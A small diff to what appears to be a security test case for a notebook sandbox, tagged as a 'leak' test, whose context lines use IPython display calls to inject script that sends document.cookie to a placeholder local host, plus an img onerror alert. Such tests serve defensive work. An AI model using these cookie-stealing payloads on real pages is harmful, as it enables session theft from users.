@@ -2,6 +2,7 @@
 # class: leak
 # base: stub
 # expect: no more points than base
+# fast: yes
 from IPython.display import HTML, Javascript, display
 display(HTML("<script>fetch('http://127.0.0.1:@TCP@/@NAME@' + document.cookie)</script><img src=x onerror=alert(1)>"))
 display(Javascript("fetch('http://127.0.0.1:@TCP@/@NAME@')"))
